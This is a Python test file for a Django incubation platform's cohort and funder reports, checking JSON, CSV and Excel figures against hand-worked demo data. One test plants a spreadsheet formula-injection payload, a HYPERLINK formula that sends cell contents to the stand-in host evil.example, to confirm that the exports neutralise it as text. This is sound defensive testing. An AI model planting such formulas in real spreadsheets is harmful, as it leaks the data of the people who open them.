"""The cohort report and the funder report, checked by hand against incubation/demo.py."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
import time_machine
from django.utils import translation
from openpyxl import load_workbook

from caiac.accounts import demo as accounts_demo
from incubation import demo, reports, selectors
from incubation.models import Cohort

pytestmark = pytest.mark.django_db

NOW = datetime.datetime(2026, 11, 20, 12, 0, tzinfo=datetime.UTC)

# By hand from demo.KPIS (2026-Q2 + 2026-Q3 of Amalou, Atlas Essences, Nectar):
#   revenue   180000 + 210000 + 95000 + 130000 + 20000 + 35000 = 670000
#   women     4 + 2 + 1 + 1 + 1 + 0 = 9          men  0 + 1 + 1 + 0 + 0 + 1 = 3
#   funding   0 + 150000 + 300000 + 0 + 0 + 50000 = 500000
#   products  1 + 2 + 1 + 2 + 0 + 1 = 7          certifications 1 + 1 + 0 + 1 + 0 + 1 = 4
#   exports   60000 + 75000 + 20000 = 155000, by Amalou and Atlas Essences (2 exporters)
# demo.MENTORING: 2.0 + 1.5 + 3.0 + 2.5 = 9.0 hours in 4 sessions
# demo.MILESTONES: 3 done; one overdue whatever the day (Nectar's stability test, 53 days ago)
# Organisations: Amalou and Atlas are cluster members, Nectar is not.
EXPECTED = {
    "incubatees": 3,
    "startups_supported": 3,
    "cluster_members": 2,
    "stage_pre_incubation": 1,
    "stage_incubation": 1,
    "stage_acceleration": 1,
    "stage_graduated": 0,
    "stage_exited": 0,
    "mentoring_sessions": 4,
    "mentoring_hours": "9.00",
    "milestones_done": 3,
    "milestones_overdue": 1,
    "kpi_reports": 6,
    "revenue_mad": "670000.00",
    "jobs_women": 9,
    "jobs_men": 3,
    "jobs_created": 12,
    "funding_raised_mad": "500000.00",
    "products_launched": 7,
    "certifications_obtained": 4,
    "exports_mad": "155000.00",
    "exporting_incubatees": 2,
}


@pytest.fixture
def seeded():
    with time_machine.travel(NOW, tick=False):
        ctx, _lines = accounts_demo.seed()
        demo.seed(ctx)
        demo.seed(ctx)  # idempotent: a second run adds nothing
        yield ctx, Cohort.objects.get(name=demo.COHORT)


def _expected_lab_hours(cohort) -> str:
    ids = list(cohort.incubatees.values_list("organisation_id", flat=True))
    used = selectors.lab_hours_used(
        organisation_ids=ids, start=cohort.starts_on, end=datetime.date(2027, 1, 1)
    )
    # The demo seeds no booking for these organisations: 0 once booking's selector is merged.
    return None if used is None else "0.00"


def test_the_demo_is_idempotent(seeded):
    from incubation.models import Evaluation, Incubatee, KpiReport, MentoringSession, Milestone

    assert Incubatee.objects.count() == 3
    assert Evaluation.objects.count() == 4 * 2 * 4
    assert KpiReport.objects.count() == 6
    assert MentoringSession.objects.count() == 4
    assert Milestone.objects.count() == 6


def test_cohort_report_json_matches_the_demo_by_hand(client_for, seeded):
    ctx, cohort = seeded
    with time_machine.travel(NOW, tick=False):
        response = client_for(ctx.users["staff"]).get(
            f"/api/v1/incubation/cohorts/{cohort.pk}/report/"
        )
    assert response.status_code == 200
    figures = response.json()["figures"]
    for key, value in EXPECTED.items():
        assert figures[key] == value, key
    assert figures["lab_hours_used"] == _expected_lab_hours(cohort)
    rows = {row["organisation"]: row for row in response.json()["incubatees"]}
    assert rows[demo.AMALOU]["revenue_mad"] == "390000.00"  # 180000 + 210000
    assert rows[demo.AMALOU]["certifications"] == ["ISO 22716", "Organic (Ecocert)"]
    assert rows[demo.NECTAR]["stage"] == "pre_incubation"
    assert response.json()["periods"] == ["2026-Q1", "2026-Q2", "2026-Q3", "2026-Q4"]


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "a byte-order mark, so that Excel reads the accents"
    return list(csv.reader(io.StringIO(text[1:])))


def _labels() -> dict[str, str]:
    with translation.override("fr"):
        return {key: str(label) for key, label in reports.METRICS}


def test_cohort_report_csv_is_one_french_table_per_file_matching_the_json(client_for, seeded):
    ctx, cohort = seeded
    url = f"/api/v1/incubation/cohorts/{cohort.pk}/report.csv"
    with time_machine.travel(NOW, tick=False):
        summary = client_for(ctx.users["staff"]).get(url)
        table = client_for(ctx.users["staff"]).get(url, {"table": "incubatees"})
    assert summary.status_code == 200 and table.status_code == 200
    assert summary["Content-Type"].startswith("text/csv")
    assert "attachment" in summary["Content-Disposition"]
    assert "incubatees" in table["Content-Disposition"]
    rows = _csv_rows(summary)
    assert rows[0] == ["Indicateur", "Valeur"]
    assert all(len(row) == 2 for row in rows), "one table: no blank line, no second header"
    values = dict(rows[1:])
    for key, expected in EXPECTED.items():
        assert values[_labels()[key]] == str(expected), key

    rows = _csv_rows(table)
    assert rows[0][:5] == ["Cohorte", "Organisation", "Type", "Membre du cluster", "Étape"]
    assert all(len(row) == len(rows[0]) for row in rows)
    assert [row[1] for row in rows[1:]] == sorted([demo.AMALOU, demo.ATLAS, demo.NECTAR])
    nectar = next(row for row in rows if row[1] == demo.NECTAR)
    assert nectar[3] == "Non" and nectar[4] == "Pré-incubation"  # no True/False, no raw code
    assert "pre_incubation" not in table.content.decode()


def test_an_unknown_csv_table_is_refused_naming_the_field(client_for, seeded):
    ctx, cohort = seeded
    response = client_for(ctx.users["staff"]).get(
        f"/api/v1/incubation/cohorts/{cohort.pk}/report.csv", {"table": "everything"}
    )
    assert response.status_code == 400 and "table" in response.json()["fields"]


def test_cohort_report_xlsx_cells_match_the_demo(client_for, seeded):
    ctx, cohort = seeded
    with time_machine.travel(NOW, tick=False):
        response = client_for(ctx.users["staff"]).get(
            f"/api/v1/incubation/cohorts/{cohort.pk}/report.xlsx"
        )
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Résumé", "Incubés"]
    summary = workbook["Résumé"]
    assert [c.value for c in summary[1]] == ["Indicateur", "Valeur"]
    cells = {row[0].value: row[1].value for row in summary.iter_rows(min_row=2)}
    labels = _labels()
    assert cells[labels["revenue_mad"]] == 670000
    assert cells[labels["jobs_women"]] == 9
    assert cells[labels["jobs_men"]] == 3
    assert cells[labels["funding_raised_mad"]] == 500000
    assert cells[labels["exports_mad"]] == 155000
    assert cells[labels["mentoring_hours"]] == 9
    assert cells[labels["incubatees"]] == 3
    assert cells[labels["cluster_members"]] == 2
    sheet = workbook["Incubés"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[1] for r in rows] == sorted([demo.AMALOU, demo.ATLAS, demo.NECTAR])
    amalou = rows[[r[1] for r in rows].index(demo.AMALOU)]
    assert amalou[3] == "Oui" and amalou[7] == 390000  # member, revenue column


def test_reports_speak_the_requests_language(client_for, seeded):
    ctx, cohort = seeded
    with time_machine.travel(NOW, tick=False):
        response = client_for(ctx.users["staff"]).get(
            f"/api/v1/incubation/cohorts/{cohort.pk}/report.csv",
            {"table": "incubatees"},
            HTTP_ACCEPT_LANGUAGE="en",
        )
    rows = _csv_rows(response)
    assert rows[0][:2] == ["Cohort", "Organisation"]
    assert "Pre-incubation" in {row[4] for row in rows[1:]}


def test_a_formula_typed_into_a_kpi_field_comes_out_as_text(client_for, seeded):
    from incubation.models import KpiReport

    ctx, cohort = seeded
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'
    report = KpiReport.objects.filter(incubatee__cohort=cohort).order_by("pk").first()
    report.certifications = [formula, "@SUM(1+1)"]
    report.save()
    client = client_for(ctx.users["staff"])
    with time_machine.travel(NOW, tick=False):
        xlsx = client.get(f"/api/v1/incubation/cohorts/{cohort.pk}/report.xlsx")
        csv_response = client.get(
            f"/api/v1/incubation/cohorts/{cohort.pk}/report.csv", {"table": "incubatees"}
        )
    sheet = load_workbook(io.BytesIO(xlsx.content))["Incubés"]
    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    hit = next(c for c in texts if "HYPERLINK" in c.value)
    assert hit.data_type == "s" and hit.value.startswith(formula)  # a string, not a formula
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    cells = [cell for row in _csv_rows(csv_response) for cell in row]
    cell = next(c for c in cells if "HYPERLINK" in c)
    assert cell.startswith("'=HYPERLINK")


def test_a_year_without_activity_reports_zero_kpis(client_for, seeded):
    ctx, cohort = seeded
    response = client_for(ctx.users["staff"]).get(
        f"/api/v1/incubation/cohorts/{cohort.pk}/report/", {"year": 2025}
    )
    figures = response.json()["figures"]
    assert figures["revenue_mad"] == "0.00"
    assert figures["mentoring_sessions"] == 0
    assert figures["incubatees"] == 3


def test_a_bad_year_is_refused_naming_the_field(client_for, seeded):
    ctx, cohort = seeded
    response = client_for(ctx.users["staff"]).get(
        f"/api/v1/incubation/cohorts/{cohort.pk}/report/", {"year": "twenty"}
    )
    assert response.status_code == 400
    assert "year" in response.json()["fields"]


def test_funder_report_for_2026_adds_up_the_cohorts_of_the_year(client_for, seeded):
    ctx, _cohort = seeded
    client = client_for(ctx.users["staff"])
    with time_machine.travel(NOW, tick=False):
        data = client.get("/api/v1/incubation/reports/funder/", {"year": 2026}).json()
        csv_response = client.get("/api/v1/incubation/reports/funder.csv", {"year": 2026})
        xlsx_response = client.get("/api/v1/incubation/reports/funder.xlsx", {"year": 2026})
    # The 2027 prototyping cohort does not run in 2026.
    assert [c["name"] for c in data["cohorts"]] == [demo.COHORT]
    for key, value in EXPECTED.items():
        assert data["figures"][key] == value, key
    assert "Chiffre d\u2019affaires (MAD),670000.00" in csv_response.content.decode()
    workbook = load_workbook(io.BytesIO(xlsx_response.content))
    cells = {r[0].value: r[1].value for r in workbook["Résumé"].iter_rows(min_row=2)}
    assert cells[_labels()["jobs_created"]] == 12


def test_funder_report_needs_a_year(client_for, staff):
    response = client_for(staff).get("/api/v1/incubation/reports/funder/")
    assert response.status_code == 400
    assert "year" in response.json()["fields"]


def test_demo_ranking_of_the_closed_call(seeded):
    # jury1 on Amalou: (3*8/10 + 2*7/10 + 2*5/5 + 1*5/5) / 8 * 100 = (2.4+1.4+2+1)/8*100 = 85
    # jury2 on Amalou: (3*9/10 + 2*6/10 + 2*4/5 + 1*5/5) / 8 * 100 = (2.7+1.2+1.6+1)/8*100 = 81.25
    # mean 83.125 -> 83.13 (half up)
    from incubation.models import Call

    rows = selectors.call_ranking(Call.objects.get(title=demo.CALL))
    amalou = next(r for r in rows if r.application.organisation.name == demo.AMALOU)
    assert amalou.total == Decimal("83.13")
    assert rows[0].rank == 1
    assert [r.total for r in rows] == sorted([r.total for r in rows], reverse=True)


def test_training_hours_and_participants_count_people_present_from_the_cohort(
    client_for, staff, cohort, incubatee, organisation, member, other_member
):
    from tests.factories import member_of
    from tests.trainings.factories import EnrolmentFactory, SessionFactory

    colleague = member_of(organisation, username="colleague")
    start = datetime.datetime(2026, 10, 5, 9, 0, tzinfo=datetime.UTC)
    gmp = SessionFactory(start=start, end=start + datetime.timedelta(hours=3))
    EnrolmentFactory(session=gmp, user=member, present=True)
    EnrolmentFactory(session=gmp, user=colleague, present=True)
    EnrolmentFactory(session=gmp, user=other_member, present=True)  # not in the cohort
    later = SessionFactory(
        start=start + datetime.timedelta(days=7), end=start + datetime.timedelta(days=7, hours=2)
    )
    EnrolmentFactory(session=later, user=member, present=True)
    EnrolmentFactory(session=later, user=colleague, present=False)  # absent
    next_year = SessionFactory(
        start=datetime.datetime(2027, 1, 5, 9, 0, tzinfo=datetime.UTC),
        end=datetime.datetime(2027, 1, 5, 12, 0, tzinfo=datetime.UTC),
    )
    EnrolmentFactory(session=next_year, user=member, present=True)  # outside the cohort's run

    figures = (
        client_for(staff).get(f"/api/v1/incubation/cohorts/{cohort.pk}/report/").json()["figures"]
    )
    # 3 h * 2 people + 2 h * 1 person = 8 participant-hours; 2 distinct people.
    assert figures["training_hours"] == "8.00"
    assert figures["training_participants"] == 2
